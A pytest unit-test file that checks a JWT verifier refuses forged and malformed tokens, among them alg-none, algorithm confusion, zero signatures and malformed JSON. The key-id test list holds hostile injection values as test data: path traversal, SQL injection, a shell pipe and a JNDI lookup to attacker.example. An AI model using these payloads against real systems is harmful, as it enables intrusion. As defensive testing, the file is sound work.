"""Unit: tokens that somebody made who should not: every one is refused, and all in one way."""

from __future__ import annotations

import json
import random
from contextlib import suppress
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, padding
from hypothesis import given, settings
from hypothesis import strategies as st

from kiseki.kernel.ports import Unauthenticated
from kiseki.security.identity.compact import MAX_TOKEN_BYTES
from kiseki.security.identity.key_sources import FixedKeys
from kiseki.security.identity.keys import SigningKey
from tests.unit.security.identity.token_parts import (
    EC,
    ED,
    EDDSA,
    ES256,
    EVERY_KEY,
    HS256,
    ISSUER,
    PS256,
    RS256,
    RSA,
    SECRET,
    Setup,
    b64,
    bearer,
    bearing,
    ec_jwk,
    hmac_signed,
    jwks,
    private_pem,
    public_pem,
    rsa_jwk,
    signed,
)

GOOD = {"alg": "HS256", "kid": "hs", "typ": "JWT"}


async def refusal(setup: Setup, token: bytes) -> str:
    """Why a token was refused, as the audit log has it; the answer never says."""
    before = len(setup.audited.events)
    with pytest.raises(Unauthenticated) as refused:
        await setup.identity.identify(bearer(token))
    assert refused.value.error in ("invalid_token", "invalid_request")
    assert str(refused.value) == "the credentials were not accepted"
    assert refused.value.__cause__ is None
    (event,) = setup.audited.events[before:]
    assert (event.kind, event.outcome, event.address) == ("authentication.refused", "refused", "192.0.2.7")
    return event.code or ""


@pytest.fixture
def setup() -> Setup:
    return Setup(*(key.verification for key in EVERY_KEY))


@pytest.mark.parametrize("key", EVERY_KEY, ids=lambda key: key.algorithm)
async def test_a_good_token_of_each_algorithm_is_believed(setup: Setup, key: SigningKey) -> None:
    principal = await setup.identity.identify(bearer(setup.token(key)))
    assert (principal.subject, principal.issuer, principal.roles) == ("u-1", ISSUER, frozenset({"user"}))


# Algorithms


@pytest.mark.parametrize("name", ["none", "None", "nOnE", "NONE", "", "none ", "hs256", "HS384", "HS512", "RS512"])
@pytest.mark.parametrize("signature", [b"", b"AA"])
async def test_no_other_algorithm(setup: Setup, name: str, signature: bytes) -> None:
    token = b64(json.dumps({"alg": name}).encode()) + b"." + b64(json.dumps(setup.claims()).encode()) + b"." + signature
    assert await refusal(setup, token) in ("WRONG_ALGORITHM", "MALFORMED")


@pytest.mark.parametrize("value", [None, 1, True, ["HS256"], {"alg": "HS256"}, ["none", "HS256"]])
async def test_alg_is_a_text(setup: Setup, value: Any) -> None:
    assert await refusal(setup, signed(HS256, GOOD | {"alg": value}, setup.claims())) == "WRONG_ALGORITHM"


async def test_alg_is_needed(setup: Setup) -> None:
    assert await refusal(setup, signed(HS256, {"kid": "hs"}, setup.claims())) == "WRONG_ALGORITHM"


SECRETS_THAT_ARE_PUBLIC = {
    "the PEM": public_pem(RSA),
    "the PEM without its last newline": public_pem(RSA).rstrip(),
    "the key set": jwks(rsa_jwk(RSA, kid="rs")),
    "the entry": json.dumps(rsa_jwk(RSA, kid="rs")).encode(),
    "the modulus": rsa_jwk(RSA)["n"].encode(),
    "nothing": b"",
    "the key id": b"rs",
    "the curve's PEM": public_pem(EC),
    "the other's bytes": ED.public_key().public_bytes_raw(),
}


@pytest.mark.parametrize("name", SECRETS_THAT_ARE_PUBLIC)
@pytest.mark.parametrize("key", [RS256, PS256, ES256, EDDSA], ids=lambda key: key.algorithm)
@pytest.mark.parametrize("with_id", [True, False])
async def test_a_public_key_is_no_secret(key: SigningKey, name: str, *, with_id: bool) -> None:
    """Algorithm confusion: HS256 signed with what everybody knows."""
    setup = Setup(key.verification)
    header = {"alg": "HS256"} | ({"kid": key.key_id} if with_id else {})
    token = hmac_signed(SECRETS_THAT_ARE_PUBLIC[name], header, setup.claims())
    assert await refusal(setup, token) in ("WRONG_ALGORITHM", "UNKNOWN_KEY")


@pytest.mark.parametrize("key", EVERY_KEY, ids=lambda key: key.algorithm)
@pytest.mark.parametrize("claimed", ["HS256", "RS256", "PS256", "ES256", "EdDSA", "Ed25519"])
async def test_a_key_has_one_algorithm(setup: Setup, key: SigningKey, claimed: str) -> None:
    if claimed != key.algorithm:
        token = signed(key, {"alg": claimed, "kid": key.key_id}, setup.claims())
        assert await refusal(setup, token) == "WRONG_ALGORITHM"


@pytest.mark.parametrize("scheme", ["RS256", "PS256"])
async def test_a_signature_of_one_padding_is_none_of_the_other(scheme: str) -> None:
    key, other = (RS256, PS256) if scheme == "RS256" else (PS256, RS256)
    setup = Setup(key.verification)
    assert await refusal(setup, signed(other, {"alg": scheme, "kid": key.key_id}, setup.claims())) == "BAD_SIGNATURE"


async def test_salt_has_its_length() -> None:
    setup = Setup(PS256.verification)
    text = b".".join(b64(json.dumps(part).encode()) for part in ({"alg": "PS256"}, setup.claims()))
    pss = padding.PSS(mgf=padding.MGF1(hashes.SHA256()), salt_length=0)
    token = text + b"." + b64(RSA.sign(text, pss, hashes.SHA256()))
    assert await refusal(setup, token) == "BAD_SIGNATURE"


# Key ids and keys that a token brings


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/etc/passwd",
        "hs' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        "| /bin/sleep 10",
        "http://attacker.example/key",
        "${jndi:ldap://attacker.example}",
        "__class__",
        "HS",
        "hs ",
        " hs",
        "unknown",
    ],
)
async def test_a_key_id_is_only_compared(setup: Setup, kid: str) -> None:
    assert await refusal(setup, signed(HS256, GOOD | {"kid": kid}, setup.claims())) == "UNKNOWN_KEY"


@pytest.mark.parametrize(
    "kid", ["", "x" * 129, "hs\n", "h\0s", "hs\x7f", "ｈｓ", "\ud83d\ude00", 1, None, True, ["hs"], {"kid": "hs"}, 1.5]
)
async def test_a_key_id_is_short_and_printable(setup: Setup, kid: Any) -> None:
    assert await refusal(setup, signed(HS256, GOOD | {"kid": kid}, setup.claims())) == "HEADER_REFUSED"


REFUSED_MEMBERS: dict[str, Any] = {
    "jwk": ec_jwk(EC),
    "jku": "https://attacker.example/jwks.json",
    "x5u": "https://attacker.example/cert.pem",
    "x5c": ["MIIB"],
    "x5t": "dGVzdA",
    "x5t#S256": "dGVzdA",
    "crit": ["exp"],
    "b64": False,
    "zip": "DEF",
    "cty": "JWT",
    "enc": "A256GCM",
    "epk": {},
}


@pytest.mark.parametrize("member", REFUSED_MEMBERS)
@pytest.mark.parametrize("value", ["as it is", None, []])
async def test_a_header_brings_no_key_and_no_other_meaning(setup: Setup, member: str, value: Any) -> None:
    header = GOOD | {member: REFUSED_MEMBERS[member] if value == "as it is" else value}
    assert await refusal(setup, signed(HS256, header, setup.claims())) == "HEADER_REFUSED"


async def test_an_embedded_key_is_not_used(setup: Setup) -> None:
    mine = ec.generate_private_key(ec.SECP256R1())
    text = b".".join(b64(json.dumps(part).encode()) for part in ({"alg": "ES256", "jwk": ec_jwk(mine)}, setup.claims()))
    der = mine.sign(text, ec.ECDSA(hashes.SHA256()))
    assert await refusal(setup, text + b"." + b64(der)) == "HEADER_REFUSED"


async def test_unknown_members_of_a_header_are_nothing(setup: Setup) -> None:
    await setup.identity.identify(bearer(signed(HS256, GOOD | {"x-else": [1, {"a": "b"}]}, setup.claims())))


@pytest.mark.parametrize("value", ["JWE", "jwt+x", "", "logout+jwt", "dpop+jwt", 1, None, ["JWT"], "JWT\0", "ＪＷＴ"])
async def test_type_is_none_of_another_protocol(setup: Setup, value: Any) -> None:
    assert await refusal(setup, signed(HS256, GOOD | {"typ": value}, setup.claims())) == "WRONG_TYPE"


async def test_a_type_can_be_required() -> None:
    setup = Setup(required_type="at+jwt")
    for typ in ({"typ": "JWT"}, {}):
        header = {"alg": "HS256", "kid": "hs"} | typ
        assert await refusal(setup, signed(HS256, header, setup.claims())) == "WRONG_TYPE"
    for name in ("at+jwt", "AT+JWT"):
        await setup.identity.identify(bearer(signed(HS256, GOOD | {"typ": name}, setup.claims())))


# Form


def reshaped(token: bytes) -> dict[str, bytes]:
    header, payload, signature = token.split(b".")
    last = _next_letter(signature[-1:])
    return {
        "no signature": header + b"." + payload + b".",
        "no dot at the end": header + b"." + payload,
        "dot at the end": token + b".",
        "dot at the start": b"." + token,
        "two dots": header + b".." + payload + b"." + signature,
        "four parts": token + b"." + signature,
        "five parts": b".".join([header, b"AA", b"AA", payload, signature]),
        "no header": b"." + payload + b"." + signature,
        "no payload": header + b".." + signature,
        "padding": header + b"." + payload + b"." + signature + b"=",
        "padding in the middle": header + b"=." + payload + b"." + signature,
        "bits at the end of the signature": header + b"." + payload + b"." + signature[:-1] + last,
        "the other alphabet": header + b"." + payload + b"." + signature[:-2] + b"+/",
        "space inside": header + b". " + payload + b"." + signature,
        "tab inside": header + b".\t" + payload + b"." + signature,
        "newline inside": header + b".\n" + payload + b"." + signature,
        "newline at the end": token + b"\n",
        "space at the end": token + b" ",
        "space before": b" " + token,
        "zero byte": token + b"\0",
        "percent": token.replace(b".", b"%2E"),
        "wide dot": token.replace(b".", "．".encode()),
        "unicode digits": token[:-1] + "３".encode(),
        "quoted": b'"' + token + b'"',
        "twice": token + b"," + token,
        "twice with the scheme": token + b", Bearer " + token,
        "nothing but dots": b"..",
        "five thousand dots": b"." * 5000,
        "JSON": b'{"payload":"' + payload + b'"}',
    }


def _next_letter(letter: bytes) -> bytes:
    """A base64url letter with other bits that no byte takes."""
    alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return alphabet[alphabet.index(letter) ^ 1 :][:1]


@pytest.mark.parametrize("name", reshaped(b"a.b.c"))
async def test_there_is_one_form(setup: Setup, name: str) -> None:
    token = setup.token()
    assert name in reshaped(token)
    assert await refusal(setup, reshaped(token)[name]) in ("MALFORMED", "MALFORMED_HEADER")
    await setup.identity.identify(bearer(token))


@pytest.mark.parametrize("part", ["header", "claims"])
@pytest.mark.parametrize(
    "text",
    [
        b'{"y":"HS256","y":"HS256"',
        b'{"x":{"a":1,"a":2}',
        b'{"x":[[{"a":1,"\\u0061":2}]]',
        b'{"x":NaN',
        b'{"x":Infinity',
        b'{"x":-Infinity',
        b'{"x":1e999',
        b'{"x":-1e999',
        b'{"x":' + b"9" * 33,
        b'{"x":' + b"9" * 4400,
        b'{"x":0.' + b"1" * 40,
        b'{"x":01',
        b'{"x":' + b"[" * 8 + b"]" * 8,
        b'{"x":' + b"[" * 2500 + b"]" * 2500,
        b'{"x":' + b'{"a":' * 500 + b"1" + b"}" * 500,
        b'{"x":"\xff"',
        b'{"x":"\xc0\xae"',
        b'{"x":"\xed\xa0\x80"',
        b'{"x":"\\ud800"',
        b'{"\\udc00":1',
        b'{"x":"\n"',
        b'{"x":"\0"',
        b'\xef\xbb\xbf{"y":1',
        b'{/* */"x":1',
        b"{'y':1",
        b'{"y":1}{"x":1',
        b'[{"y":1}]{',
        '{"y":1'.encode("utf-16"),
    ],
    ids=lambda text: repr(text[:40]),
)
async def test_json_means_one_thing(setup: Setup, part: str, text: bytes) -> None:
    good = json.dumps(GOOD if part == "header" else setup.claims()).encode()
    # Everything else is as it has to be.
    changed = text + b"," + good[1:]
    token = signed(HS256, changed, setup.claims()) if part == "header" else signed(HS256, GOOD, changed)
    assert await refusal(setup, token) == "MALFORMED"


@pytest.mark.parametrize("text", [b"", b"null", b"[]", b'"x"', b"1", b"true", b"{", b"[[]", b"\x78\x9c\x03\x00"])
async def test_segments_are_objects(setup: Setup, text: bytes) -> None:
    assert await refusal(setup, signed(HS256, GOOD, text)) == "MALFORMED"
    assert await refusal(setup, signed(HS256, text, setup.claims())) == "MALFORMED"


async def test_size_has_a_bound(setup: Setup) -> None:
    short = len(setup.token(more=""))
    # Three bytes make four letters.
    fits = setup.token(more="x" * ((MAX_TOKEN_BYTES - short) * 3 // 4 - 3))
    assert MAX_TOKEN_BYTES - 8 < len(fits) <= MAX_TOKEN_BYTES
    await setup.identity.identify(bearer(fits))
    assert await refusal(setup, setup.token(more="x" * 6200)) == "TOO_LARGE"
    assert await refusal(setup, b"A" * 1_000_000) == "TOO_LARGE"


# Signatures


@pytest.mark.parametrize(
    "signature",
    [
        bytes(64),
        bytes(63) + b"\1",
        bytes(31) + b"\1" + bytes(31) + b"\1",
        b"\xff" * 64,
        # r and s equal to the order of the group
        bytes.fromhex("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551" * 2),
        bytes(1),
        bytes(63),
        bytes(65),
        bytes(96),
        bytes(128),
    ],
    ids=lambda signature: f"{len(signature)} {signature[:2].hex()}",
)
@pytest.mark.parametrize("key", EVERY_KEY, ids=lambda key: key.algorithm)
async def test_invented_signatures(setup: Setup, key: SigningKey, signature: bytes) -> None:
    """Among them the zeros of CVE-2022-21449."""
    text = b".".join(
        b64(json.dumps(part).encode()) for part in ({"alg": key.algorithm, "kid": key.key_id}, setup.claims())
    )
    assert await refusal(setup, text + b"." + b64(signature)) == "BAD_SIGNATURE"


async def test_a_der_signature_is_none(setup: Setup) -> None:
    text = b".".join(b64(json.dumps(part).encode()) for part in ({"alg": "ES256", "kid": "es"}, setup.claims()))
    assert await refusal(setup, text + b"." + b64(EC.sign(text, ec.ECDSA(hashes.SHA256())))) == "BAD_SIGNATURE"


@pytest.mark.parametrize("key", EVERY_KEY, ids=lambda key: key.algorithm)
async def test_a_signature_belongs_to_its_claims(setup: Setup, key: SigningKey) -> None:
    header, _, signature = setup.token(key).split(b".")
    _, better, _ = setup.token(key, roles=["admin"]).split(b".")
    assert await refusal(setup, b".".join((header, better, signature))) == "BAD_SIGNATURE"


@pytest.mark.parametrize("key", EVERY_KEY, ids=lambda key: key.algorithm)
async def test_a_signature_is_whole(setup: Setup, key: SigningKey) -> None:
    head, _, _ = setup.token(key).rpartition(b".")
    signature = key.sign(head)
    for changed in (signature[:-1], signature + b"\0", b"\0" + signature, signature[1:], signature * 2, signature[:16]):
        assert await refusal(setup, head + b"." + b64(changed)) == "BAD_SIGNATURE"


async def test_a_key_of_somebody_else(setup: Setup) -> None:
    token = hmac_signed(SECRET[::-1], GOOD, setup.claims())
    assert await refusal(setup, token) == "BAD_SIGNATURE"


@pytest.mark.parametrize("key", EVERY_KEY, ids=lambda key: key.algorithm)
@settings(max_examples=60, deadline=None)
@given(data=st.data())
async def test_no_mutation_is_accepted(key: SigningKey, data: st.DataObject) -> None:
    setup = Setup(key.verification, cache_entries=0)
    token = bytearray(setup.token(key))
    kind = data.draw(st.sampled_from(["flip", "swap", "cut", "insert", "repeat", "case"]))
    at = data.draw(st.integers(0, len(token) - 1))
    before = bytes(token)
    match kind:
        case "flip":
            token[at] ^= 1 << data.draw(st.integers(0, 7))
        case "swap":
            token[at] = data.draw(st.integers(0, 255))
        case "cut":
            del token[at : at + data.draw(st.integers(1, 40))]
        case "insert":
            token[at:at] = data.draw(st.binary(min_size=1, max_size=8))
        case "repeat":
            token[at:at] = token[at : at + data.draw(st.integers(1, 40))]
        case "case":
            token[at : at + 1] = bytes(token[at : at + 1]).swapcase()
    if bytes(token) != before:
        with pytest.raises(Unauthenticated):
            await setup.identity.identify(bearer(bytes(token)))


@settings(max_examples=200, deadline=None)
@given(text=st.binary(max_size=400))
async def test_no_bytes_are_a_token_or_an_accident(text: bytes) -> None:
    setup = Setup()
    for header in (text, b"Bearer " + text):
        with pytest.raises(Unauthenticated):
            await setup.identity.identify(bearing(header))


async def test_claims_of_any_shape_are_no_accident() -> None:
    """Signed by the issuer, so its mistake; still never more than a refusal."""
    setup = Setup(cache_entries=0)
    values: list[Any] = [None, True, 0, -1, 1e308, 2**63, "", "\u0000", [], {}, [[]], [None], {"a": []}, "x" * 300]
    choose = random.Random(7)
    for _ in range(400):
        changed = setup.claims() | {
            name: choose.choice(values)
            for name in choose.sample(["iss", "aud", "sub", "exp", "iat", "nbf", "userId", "roles"], 3)
        }
        with suppress(Unauthenticated):
            await setup.identity.identify(bearer(signed(HS256, GOOD, changed)))


async def test_nothing_of_a_token_is_in_what_is_told(setup: Setup, caplog: pytest.LogCaptureFixture) -> None:
    token = setup.token(sub="somebody-private", exp=1)
    with caplog.at_level("DEBUG"), pytest.raises(Unauthenticated) as refused:
        await setup.identity.identify(bearer(token))
    (event,) = setup.audited.events
    for place in (repr(refused.value), str(event.code), str(event.detail), caplog.text, repr(setup.verifier)):
        assert token.split(b".")[1].decode() not in place
        assert token.split(b".")[2].decode() not in place
    for shown in (repr(HS256), repr(HS256.verification), str(FixedKeys([HS256.verification])), repr(RS256)):
        assert SECRET.hex() not in shown
        assert repr(SECRET)[2:-1] not in shown
        assert "PRIVATE" not in shown
    assert b"PRIVATE" in private_pem(RSA)
